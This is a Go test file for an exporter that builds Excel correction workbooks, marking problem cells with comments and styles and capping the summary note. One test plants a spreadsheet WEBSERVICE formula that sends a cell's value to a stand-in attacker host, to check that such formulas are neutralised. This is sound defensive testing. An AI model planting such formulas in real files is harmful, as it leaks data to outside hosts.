package correction_test

import (
	"archive/zip"
	"bytes"
	"fmt"
	"io"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"cruscotto/exporter/correction"
	"cruscotto/importer/workbook/bombtest"
	"cruscotto/model"
)

func workbook(t *testing.T, rows int) []byte {
	t.Helper()
	f := excelize.NewFile()
	defer f.Close()
	f.SetSheetName("Sheet1", "Rilevazione")
	for r := 7; r < 7+rows; r++ {
		f.SetCellStr("Rilevazione", fmt.Sprintf("A%d", r), fmt.Sprintf("1.1.%d", r))
		f.SetCellStr("Rilevazione", fmt.Sprintf("H%d", r), "abc")
	}
	var buf bytes.Buffer
	if err := f.Write(&buf); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

func TestWrite(t *testing.T) {
	tests := []struct {
		name     string
		problems []model.Problem
		comments map[string]string // cell → comment fragment
		note     string
	}{
		{"OK", []model.Problem{{Sheet: "Rilevazione", Cell: "H7", Message: "scrivere un numero"}},
			map[string]string{"H7": "scrivere un numero"}, "1 cella evidenziata"},
		{"two problems in one cell make one comment", []model.Problem{
			{Sheet: "Rilevazione", Cell: "H7", Message: "scrivere un numero"},
			{Sheet: "Rilevazione", Cell: "H7", Message: "non oltre 100"},
			{Sheet: "Rilevazione", Cell: "A8", Message: "codice sconosciuto"}},
			map[string]string{"H7": "scrivere un numero\nnon oltre 100", "A8": "codice sconosciuto"}, "2 celle evidenziate"},
		{"problems without a cell go in the note", []model.Problem{
			{Sheet: "Rilevazione", Cell: "H7", Message: "scrivere un numero"},
			{Message: "… e altri 5 problemi non elencati"}},
			map[string]string{"H7": "scrivere un numero"}, "e altri 5 problemi"},
		{"unknown sheets are skipped", []model.Problem{{Sheet: "Altro", Cell: "A1", Message: "x"}, {Sheet: "Rilevazione", Cell: "H8", Message: "y"}},
			map[string]string{"H8": "y"}, "1 cella"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			out, err := correction.Write(workbook(t, 5), tt.problems)
			if err != nil {
				t.Fatal(err)
			}
			f, err := excelize.OpenReader(bytes.NewReader(out))
			if err != nil {
				t.Fatal(err)
			}
			comments, _ := f.GetComments("Rilevazione")
			got := map[string]string{}
			for _, c := range comments {
				got[c.Cell] = c.Text
			}
			if len(got) != len(tt.comments) {
				t.Errorf("comments %v, want %v", got, tt.comments)
			}
			for cell, frag := range tt.comments {
				if !strings.Contains(got[cell], frag) {
					t.Errorf("comment on %s = %q, want %q", cell, got[cell], frag)
				}
			}
			if note, _ := f.GetCellValue("Rilevazione", "A5"); !strings.Contains(note, tt.note) {
				t.Errorf("A5 = %q, want %q", note, tt.note)
			}
		})
	}
}

// TestWriteManyProblems: the refusal lists at most MaxListedProblems, so
// a file with 20,000 wrong cells gets a correction workbook quickly.
func TestWriteManyProblems(t *testing.T) {
	const rows = 20_000
	var ps []model.Problem
	for r := 7; r < 7+rows; r++ {
		ps = append(ps, model.Problem{Sheet: "Rilevazione", Cell: fmt.Sprintf("H%d", r), Message: "scrivere un numero"})
	}
	refusal := model.ProblemsError(model.EInvalid, ps, "Nessun valore registrato: %d da correggere nella cartella.", len(ps))
	start := time.Now()
	out, err := correction.Write(workbook(t, rows), refusal.Problems)
	if err != nil {
		t.Fatal(err)
	}
	t.Logf("correction workbook of %d problems (%d listed) in %v", rows, len(refusal.Problems), time.Since(start))
	f, _ := excelize.OpenReader(bytes.NewReader(out))
	comments, _ := f.GetComments("Rilevazione")
	note, _ := f.GetCellValue("Rilevazione", "A5")
	if len(comments) != model.MaxListedProblems || !strings.Contains(note, "e altri 19800 problemi") {
		t.Errorf("%d comments, note %q", len(comments), note)
	}
}

// TestWriteMarks: a cell with a problem is marked in Excel's «bad» style
// over the style it had (its number format and font family kept), its
// value kept; cells without problems keep their style.
func TestWriteMarks(t *testing.T) {
	f := excelize.NewFile()
	f.SetSheetName("Sheet1", "Rilevazione")
	typed, err := f.NewStyle(&excelize.Style{NumFmt: 10, Font: &excelize.Font{Family: "Arial", Size: 9}})
	if err != nil {
		t.Fatal(err)
	}
	for _, c := range []string{"H7", "H8"} {
		f.SetCellFloat("Rilevazione", c, 0.5, -1, 64)
		f.SetCellStyle("Rilevazione", c, c, typed)
	}
	f.SetCellStr("Rilevazione", "A7", "1.1.1")
	var buf bytes.Buffer
	if err := f.Write(&buf); err != nil {
		t.Fatal(err)
	}
	f.Close()
	out, err := correction.Write(buf.Bytes(), []model.Problem{
		{Sheet: "Rilevazione", Cell: "H7", Message: "non oltre 100%"},
		{Sheet: "Rilevazione", Cell: "A7", Message: "codice sconosciuto"},
	})
	if err != nil {
		t.Fatal(err)
	}
	got, err := excelize.OpenReader(bytes.NewReader(out))
	if err != nil {
		t.Fatal(err)
	}
	defer got.Close()
	style := func(cell string) *excelize.Style {
		t.Helper()
		id, err := got.GetCellStyle("Rilevazione", cell)
		if err != nil {
			t.Fatal(err)
		}
		st, err := got.GetStyle(id)
		if err != nil {
			t.Fatal(err)
		}
		return st
	}
	tests := []struct {
		name, cell string
		marked     bool
		numFmt     int
		family     string
		value      string
	}{
		{"OK", "H7", true, 10, "Arial", "0.5"},
		{"a cell without a style of its own", "A7", true, 0, "", "1.1.1"},
		{"a cell without problems", "H8", false, 10, "Arial", "0.5"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			st := style(tt.cell)
			isMarked := len(st.Fill.Color) == 1 && st.Fill.Color[0] == "FFC7CE" && st.Font != nil && st.Font.Color == "9C0006" && st.Font.Bold &&
				len(st.Border) == 4 && st.Border[0].Style == 2 && st.Border[0].Color == "9C0006"
			if isMarked != tt.marked {
				t.Errorf("marked %v, want %v: fill %+v font %+v borders %+v", isMarked, tt.marked, st.Fill, st.Font, st.Border)
			}
			family := ""
			if st.Font != nil {
				family = st.Font.Family
			}
			if st.NumFmt != tt.numFmt || (tt.family != "" && family != tt.family) {
				t.Errorf("number format %d, font %q, want %d, %q", st.NumFmt, family, tt.numFmt, tt.family)
			}
			if v, _ := got.GetCellValue("Rilevazione", tt.cell, excelize.Options{RawCellValue: true}); v != tt.value {
				t.Errorf("value %q, want %q", v, tt.value)
			}
		})
	}
}

// TestWriteNothingToMark: problems only on sheets the workbook lacks, or
// without a cell, leave it as it was: no comment, no note, no error.
func TestWriteNothingToMark(t *testing.T) {
	tests := []struct {
		name     string
		problems []model.Problem
	}{
		{"a sheet that does not exist", []model.Problem{{Sheet: "Foglio rinominato", Cell: "H7", Message: "scrivere un numero"}}},
		{"a sheet name with «!»", []model.Problem{{Sheet: "Rilevazione!", Cell: "H7", Message: "scrivere un numero"}}},
		{"no cell", []model.Problem{{Sheet: "Rilevazione", Message: "cartella di un'altra struttura"}}},
		{"no problems", nil},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			out, err := correction.Write(workbook(t, 3), tt.problems)
			if err != nil {
				t.Fatal(err)
			}
			f, err := excelize.OpenReader(bytes.NewReader(out))
			if err != nil {
				t.Fatal(err)
			}
			defer f.Close()
			if comments, _ := f.GetComments("Rilevazione"); len(comments) != 0 {
				t.Errorf("comments %+v", comments)
			}
			if note, _ := f.GetCellValue("Rilevazione", "A5"); note != "" {
				t.Errorf("A5 = %q, want nothing", note)
			}
			if v, _ := f.GetCellValue("Rilevazione", "H7"); v != "abc" {
				t.Errorf("H7 = %q, want what the unit typed", v)
			}
		})
	}
}

// TestFormulasNeutralised: the unit's own formulas (=WEBSERVICE(…) with a
// forged cached value, a shared formula, a plain sum) never reach the
// admin who opens the correction workbook: each cell keeps its value and
// loses its formula, and the calculation chain goes with them.
func TestFormulasNeutralised(t *testing.T) {
	f := excelize.NewFile()
	f.SetSheetName("Sheet1", "Rilevazione")
	f.SetCellStr("Rilevazione", "A7", "1.1.7")
	f.SetCellStr("Rilevazione", "H7", "abc")
	f.SetCellFormula("Rilevazione", "H8", `_xlfn.WEBSERVICE("http://attacker.example/?"&A7)`)
	f.SetCellFormula("Rilevazione", "H9", "SUM(1,2)")
	f.SetCellFormula("Rilevazione", "I1", "A1", excelize.FormulaOpts{Type: ptr(excelize.STCellFormulaTypeShared), Ref: ptr("I1:I3")})
	var buf bytes.Buffer
	if err := f.Write(&buf); err != nil {
		t.Fatal(err)
	}
	f.Close()
	// the cached values a forger writes, and Excel's calculation chain
	book := patchPart(t, buf.Bytes(), "xl/worksheets/sheet1.xml", func(s string) string {
		s = strings.Replace(s, `&amp;A7)</f>`, `&amp;A7)</f><v>1000</v>`, 1)
		return strings.Replace(s, `SUM(1,2)</f>`, `SUM(1,2)</f><v>3</v>`, 1)
	})
	out, err := correction.Write(book, []model.Problem{{Sheet: "Rilevazione", Cell: "H7", Message: "scrivere un numero"}})
	if err != nil {
		t.Fatal(err)
	}
	g, err := excelize.OpenReader(bytes.NewReader(out))
	if err != nil {
		t.Fatal(err)
	}
	defer g.Close()
	for _, cell := range []string{"H8", "H9", "I1", "I2", "I3"} {
		if fm, _ := g.GetCellFormula("Rilevazione", cell); fm != "" {
			t.Errorf("%s keeps the formula %q", cell, fm)
		}
	}
	for cell, want := range map[string]string{"H8": "1000", "H9": "3", "H7": "abc"} {
		if v, _ := g.GetCellValue("Rilevazione", cell); v != want {
			t.Errorf("%s = %q, want %q", cell, v, want)
		}
	}
	zr, err := zip.NewReader(bytes.NewReader(out), int64(len(out)))
	if err != nil {
		t.Fatal(err)
	}
	for _, part := range zr.File {
		rc, _ := part.Open()
		data, _ := io.ReadAll(rc)
		rc.Close()
		if strings.Contains(string(data), "WEBSERVICE") || strings.Contains(part.Name, "calcChain") {
			t.Errorf("%s still holds the formula or the calculation chain", part.Name)
		}
	}
}

func ptr[T any](v T) *T { return &v }

// patchPart rewrites one part of a workbook's zip.
func patchPart(t *testing.T, book []byte, name string, edit func(string) string) []byte {
	t.Helper()
	return bombtest.PatchPart(book, name, edit)
}

// TestStylesExcelizeCannotRead: a styles part whose first font is empty
// made excelize panic while marking a cell; the correction workbook is
// refused with a sentence instead of failing with a 500.
func TestStylesExcelizeCannotRead(t *testing.T) {
	book := patchPart(t, workbook(t, 3), "xl/styles.xml", func(s string) string {
		start := strings.Index(s, "<font>")
		end := strings.Index(s, "</font>")
		if start < 0 || end < 0 {
			t.Fatalf("no font in %s", s)
		}
		return s[:start] + "<font/>" + s[end+len("</font>"):]
	})
	out, err := correction.Write(book, []model.Problem{{Sheet: "Rilevazione", Cell: "H7", Message: "scrivere un numero"}})
	if err == nil {
		if _, err := excelize.OpenReader(bytes.NewReader(out)); err != nil {
			t.Errorf("a correction workbook that does not open: %v", err)
		}
		return
	}
	if c := model.ErrorCode(err); c != model.EInvalid {
		t.Errorf("refusal %v (%s)", err, c)
	}
}
